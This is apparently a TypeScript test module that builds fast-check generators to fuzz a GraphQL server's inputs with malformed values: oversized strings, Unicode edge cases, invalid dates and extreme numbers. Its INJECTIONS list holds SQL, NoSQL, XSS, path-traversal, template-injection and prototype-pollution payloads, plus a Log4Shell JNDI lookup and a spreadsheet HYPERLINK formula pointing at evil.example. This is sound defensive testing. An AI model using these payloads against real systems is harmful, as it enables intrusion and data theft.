import fc from 'fast-check';
import { getNamedType, getNullableType, isEnumType, isInputObjectType, isListType, isNonNullType, type GraphQLInputType } from 'graphql';

/**
 * The abusive values. Each carries a label (its class: huge, unicode, injection, far date...)
 * so that a failure names what kind of input broke the server.
 */

/** A number written into the JSON body as is (1e400, 2^64...), beyond what a JS number can carry. */
export class RawNumber {
  constructor(readonly text: string) {}
  toJSON() {
    return this.text;
  }
}

/** Leave the field or argument out. */
export const OMIT = Symbol('omit');

/** A variant of the valid value for this site (so that the rest of it still looks right). */
export type Derive = { kind: 'suffix'; text: string } | { kind: 'prefix'; text: string } | { kind: 'repeat'; length: number } | { kind: 'case' };

export interface Abuse {
  label: string;
  value?: unknown;
  derive?: Derive;
  /** Print the value into the document as a literal instead of passing it as a variable. */
  literal?: boolean;
}

const tag = <T>(label: string, arbitrary: fc.Arbitrary<T>): fc.Arbitrary<Abuse> => arbitrary.map((value) => ({ label, value }));
const constant = (label: string, value: unknown): fc.Arbitrary<Abuse> => fc.constant({ label, value });
const derived = (label: string, derive: Derive): fc.Arbitrary<Abuse> => fc.constant({ label, derive });

export const INJECTIONS = [
  "' OR '1'='1",
  '1; DROP TABLE actions; --',
  '" OR ""="',
  '{"$gt": ""}',
  '{"$where": "sleep(1000)"}',
  '$ne',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1, "x")',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  'ACTION#2.1-03',
  'STRATEGY#',
  '2.1-03#',
  '#',
  '*',
  'cursor:',
  Buffer.from('cursor:').toString('base64url'),
  Buffer.from('cursor:9999-12-31T00:00:00Z#x').toString('base64url'),
  Buffer.from('cursor:' + 'x'.repeat(2000)).toString('base64url'),
  'http://user:password@example.com/',
  'https://example.com@evil.example/',
  'file:///etc/passwd',
  'data:text/html,<script>alert(1)</script>',
  'https://example.com/\u202Egpj.exe',
];

export const UNICODE = [
  '\uD800',
  '\uDFFF',
  'a\uD800b',
  '\uDC00\uD800',
  '\u202E',
  'abc\u202Edef',
  '\u2066\u2067\u2068\u2069',
  '\u200B',
  '\u200D',
  '\uFEFF',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u001B[31m',
  '\u007F',
  '\u0085\u2028\u2029',
  '\r\n',
  '\t',
  '👩‍💻',
  '🏳️‍🌈',
  '🇩🇪',
  'e\u0301\u0301\u0301\u0301\u0301\u0301',
  'Z̴̡̛̖̗̘̙̜̝̞̟̠̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌̕̚ͅ͏͓͔͕͖͙͚͐͑͒͗͛ͣͤͥͦͧͨͩͪͫͬͭͮͯ͘͜͟͢͝͞͠͡',
  '\uFFFD',
  '\uFFFF',
  'ＤＥ',
  'ß',
  'İ',
  'ǅ',
];

export const FAR_DATES = [
  '0001-01-01',
  '0000-01-01',
  '9999-12-31',
  '3000-01-01',
  '2100-01-01',
  '275760-09-13',
  '+275760-09-13',
  '-000001-01-01',
  '-271821-04-20',
  '2013-02-30',
  '2013-02-29',
  '2016-02-29',
  '2013-13-01',
  '2013-00-10',
  '2013-01-00',
  '2013-04-31',
  '2013-2-3',
  '2013-02-07T00:00:00Z',
  '20130207',
  '2013/02/07',
  '1970-01-01',
  '2013-02-06',
  '2013-02-07',
  '2014-02-07',
  ' 2013-06-01',
  '2013-06-01 ',
  '２０１３-06-01',
];

export const FAR_DATE_TIMES = [
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '275760-09-13T00:00:00Z',
  '2013-02-30T00:00:00Z',
  '2013-06-01T25:00:00Z',
  '2013-06-01T23:59:60Z',
  '2013-06-01T00:00:00+99:00',
  '2013-06-01T00:00:00.123456789123456789Z',
  '2013-06-01',
  '2013-06-01T00:00:00',
  '2013-06-01Tgarbage',
  '2013-06-01T00:00:00Z\u0000',
  'now',
  '0',
  '1970-01-01T00:00:00Z',
  '2013-02-07T00:00:00Z',
];

const NUMBERS_AS_STRINGS = ['NaN', 'Infinity', '-Infinity', '-0', '1e309', '0x1F', '007', '1_000', '١٢٣', ''];

const EXTREME_INTS: unknown[] = [
  0,
  -1,
  1,
  100,
  101,
  500,
  501,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31),
  -(2 ** 31) - 1,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_SAFE_INTEGER,
  1e21,
  1.5,
  -0.0001,
  new RawNumber('1e400'),
  new RawNumber('-1e400'),
  new RawNumber('18446744073709551617'),
  new RawNumber('1e-400'),
];

function deepNest(depth: number, array: boolean): unknown {
  let value: unknown = 'x';
  for (let level = 0; level < depth; level += 1) value = array ? [value] : { a: value };
  return value;
}

/** An object whose own keys are `__proto__` and `constructor` (a literal would set the prototype instead). */
function pollutingObject(inner: unknown): Record<string, unknown> {
  const value: Record<string, unknown> = {};
  Object.defineProperty(value, '__proto__', { value: { polluted: true, ...((inner as object) ?? {}) }, enumerable: true });
  Object.defineProperty(value, 'constructor', { value: { prototype: { polluted: true } }, enumerable: true });
  return value;
}

const wrongTypes: fc.Arbitrary<Abuse> = fc.oneof(
  constant('wrong-type:number', 42),
  constant('wrong-type:float', 3.14),
  constant('wrong-type:boolean', true),
  constant('wrong-type:string', 'not the right type'),
  constant('wrong-type:object', { a: 1 }),
  constant('wrong-type:empty-object', {}),
  constant('wrong-type:array', ['a', 1, null]),
  constant('wrong-type:nested-array', [[[]]]),
  tag(
    'wrong-type:deep-array',
    fc.integer({ min: 100, max: 2000 }).map((depth) => deepNest(depth, true)),
  ),
  tag(
    'wrong-type:deep-object',
    fc.integer({ min: 100, max: 2000 }).map((depth) => deepNest(depth, false)),
  ),
  constant('wrong-type:prototype-keys', pollutingObject({})),
  tag('wrong-type:json', fc.jsonValue({ maxDepth: 3 })),
);

const huge: fc.Arbitrary<Abuse> = fc.oneof(
  tag('huge:1025', fc.constant('a'.repeat(1025))),
  tag('huge:10k', fc.constant('ä'.repeat(10_000))),
  tag('huge:100k', fc.constant('x'.repeat(100_000))),
  tag('huge:100k-emoji', fc.constant('👩‍💻'.repeat(20_000))),
  tag('huge:100k-rtl', fc.constant('\u202E'.repeat(100_000))),
  derived('huge:repeat-valid-1k', { kind: 'repeat', length: 1100 }),
  derived('huge:repeat-valid-100k', { kind: 'repeat', length: 100_000 }),
);

const unicode: fc.Arbitrary<Abuse> = fc.oneof(
  tag('unicode:edge', fc.constantFrom(...UNICODE)),
  tag('unicode:random-binary', fc.string({ unit: 'binary', maxLength: 40 })),
  tag('unicode:random-grapheme', fc.string({ unit: 'grapheme', maxLength: 20 })),
  tag('unicode:edge-suffix', fc.constantFrom(...UNICODE)).map((abuse) => ({
    label: abuse.label,
    derive: { kind: 'suffix' as const, text: String(abuse.value) },
  })),
  tag('unicode:edge-prefix', fc.constantFrom(...UNICODE)).map((abuse) => ({
    label: abuse.label,
    derive: { kind: 'prefix' as const, text: String(abuse.value) },
  })),
  derived('unicode:case-changed', { kind: 'case' }),
  derived('unicode:padded', { kind: 'suffix', text: ' ' }),
);

const injection: fc.Arbitrary<Abuse> = fc.oneof(
  tag('injection', fc.constantFrom(...INJECTIONS)),
  tag('injection:suffix', fc.constantFrom(...INJECTIONS)).map((abuse) => ({
    label: abuse.label,
    derive: { kind: 'suffix' as const, text: String(abuse.value) },
  })),
);

const empty: fc.Arbitrary<Abuse> = fc.oneof(
  constant('empty:string', ''),
  constant('empty:blank', '   '),
  constant('empty:newlines', '\n\n'),
  constant('empty:array', []),
  constant('empty:object', {}),
  constant('empty:null', null),
  constant('empty:omit', OMIT),
);

const numberish: fc.Arbitrary<Abuse> = fc.oneof(
  tag('extreme:int', fc.constantFrom(...EXTREME_INTS)),
  tag('extreme:random-int', fc.integer()),
  tag('extreme:random-double', fc.double({ noNaN: true, noDefaultInfinity: true })),
  tag('extreme:number-string', fc.constantFrom(...NUMBERS_AS_STRINGS)),
);

const date: fc.Arbitrary<Abuse> = fc.oneof(
  tag('date:far', fc.constantFrom(...FAR_DATES)),
  tag(
    'date:random-digits',
    fc
      .tuple(fc.integer({ min: 0, max: 99_999 }), fc.integer({ min: 0, max: 99 }), fc.integer({ min: 0, max: 99 }))
      .map(([year, month, day]) => `${String(year).padStart(4, '0')}-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}`),
  ),
  tag(
    'date:random-valid',
    fc.date({ min: new Date(-8.64e15), max: new Date(8.64e15), noInvalidDate: true }).map((value) => value.toISOString().slice(0, -14)),
  ),
  tag(
    'date:in-range',
    fc
      .date({ min: new Date('2012-12-01T00:00:00Z'), max: new Date('2015-01-01T00:00:00Z'), noInvalidDate: true })
      .map((value) => value.toISOString().slice(0, 10)),
  ),
);

const dateTime: fc.Arbitrary<Abuse> = fc.oneof(
  tag('datetime:far', fc.constantFrom(...FAR_DATE_TIMES)),
  tag(
    'datetime:random-valid',
    fc.date({ min: new Date(-8.64e15), max: new Date(8.64e15), noInvalidDate: true }).map((value) => value.toISOString()),
  ),
  tag(
    'datetime:in-range',
    fc
      .date({ min: new Date('2012-12-01T00:00:00Z'), max: new Date('2015-01-01T00:00:00Z'), noInvalidDate: true })
      .map((value) => value.toISOString()),
  ),
  tag('date:far', fc.constantFrom(...FAR_DATES)),
);

function enumAbuse(values: string[]): fc.Arbitrary<Abuse> {
  return fc.oneof(
    tag(
      'enum:lower-case',
      fc.constantFrom(...values).map((value) => value.toLowerCase()),
    ),
    tag('enum:unknown', fc.constantFrom('DELETED', 'ADMIN', 'SUPERUSER', '__proto__', 'constructor', 'null', '0')),
    tag(
      'enum:padded',
      fc.constantFrom(...values).map((value) => ` ${value}`),
    ),
    constant('enum:index', 0),
    tag('enum:literal', fc.constantFrom(...values)).map((abuse) => ({ ...abuse, literal: true })),
  );
}

const urlList: fc.Arbitrary<Abuse> = fc.oneof(
  tag(
    'list:over-limit',
    fc.integer({ min: 21, max: 40 }).map((count) => Array.from({ length: count }, (_v, index) => `https://example.eu/evidence/${index}`)),
  ),
  tag('list:huge', fc.constant(Array.from({ length: 10_000 }, (_v, index) => `https://example.eu/${index}`))),
  tag('list:huge-items', fc.constant(Array.from({ length: 20 }, (_v, index) => `https://example.eu/${index}/${'a'.repeat(5000)}`))),
  tag('list:null-item', fc.constant(['https://example.eu/a', null])),
  tag('list:duplicates', fc.constant(Array.from({ length: 20 }, () => 'https://example.eu/same'))),
  tag('list:injection-items', fc.subarray(INJECTIONS, { minLength: 1, maxLength: 20 })),
  tag(
    'list:unicode-items',
    fc.subarray(
      UNICODE.map((text) => `https://example.eu/${text}`),
      { minLength: 1, maxLength: 20 },
    ),
  ),
  tag('list:random-strings', fc.array(fc.string({ unit: 'binary', maxLength: 30 }), { maxLength: 20 })),
  tag('list:random-urls', fc.array(fc.webUrl({ withQueryParameters: true, withFragments: true }), { maxLength: 20 })),
  constant('list:single-value', 'https://example.eu/not-a-list'),
);

function inputObjectAbuse(): fc.Arbitrary<Abuse> {
  return fc.oneof(
    constant('object:empty', {}),
    constant('object:prototype-keys', pollutingObject({})),
    tag('object:unknown-fields', fc.dictionary(fc.string({ minLength: 1, maxLength: 10 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 5 })),
    constant('object:many-keys', Object.fromEntries(Array.from({ length: 10_000 }, (_v, index) => [`k${index}`, index]))),
    constant('object:array', [{}]),
  );
}

/** The abuses for a site of this type (the wrong types, the empties and the huge apply to every site). */
export function abuseFor(type: GraphQLInputType): fc.Arbitrary<Abuse> {
  const nullable = getNullableType(type);
  const named = getNamedType(type);
  const general: { arbitrary: fc.Arbitrary<Abuse>; weight: number }[] = [
    { arbitrary: wrongTypes, weight: 2 },
    { arbitrary: empty, weight: 2 },
    { arbitrary: huge, weight: 2 },
    { arbitrary: unicode, weight: 2 },
    { arbitrary: injection, weight: 2 },
    { arbitrary: numberish, weight: 1 },
    { arbitrary: date, weight: 1 },
  ];
  const specific: { arbitrary: fc.Arbitrary<Abuse>; weight: number }[] = [];
  if (isListType(nullable)) specific.push({ arbitrary: urlList, weight: 6 });
  else if (isInputObjectType(named)) specific.push({ arbitrary: inputObjectAbuse(), weight: 6 });
  else if (isEnumType(named)) specific.push({ arbitrary: enumAbuse(named.getValues().map((value) => value.name)), weight: 6 });
  else if (named.name === 'Int' || named.name === 'Float') specific.push({ arbitrary: numberish, weight: 8 });
  else if (named.name === 'Date') specific.push({ arbitrary: date, weight: 10 });
  else if (named.name === 'DateTime') specific.push({ arbitrary: dateTime, weight: 10 });
  else specific.push({ arbitrary: fc.oneof(huge, unicode, injection), weight: 6 });
  if (isNonNullType(type)) specific.push({ arbitrary: constant('empty:null-for-required', null), weight: 1 });
  const arbitrary = fc.oneof(...general, ...specific);
  // A quarter of the scalar abuses are written into the document instead of the variables.
  return fc
    .tuple(arbitrary, fc.integer({ min: 0, max: 3 }))
    .map(([abuse, dice]) => (dice === 0 && !abuse.derive ? { ...abuse, literal: true } : abuse));
}

/** Applies a derived abuse to the site's valid value. */
export function applyDerive(derive: Derive, valid: unknown): unknown {
  const text = typeof valid === 'string' ? valid : typeof valid === 'number' || typeof valid === 'object' ? (JSON.stringify(valid) ?? 'x') : 'x';
  switch (derive.kind) {
    case 'suffix':
      return `${text}${derive.text}`;
    case 'prefix':
      return `${derive.text}${text}`;
    case 'repeat':
      return text.repeat(Math.ceil(derive.length / Math.max(1, text.length))).slice(0, Math.max(derive.length, text.length));
    case 'case':
      return text === text.toLowerCase() ? text.toUpperCase() : text.toLowerCase();
  }
}
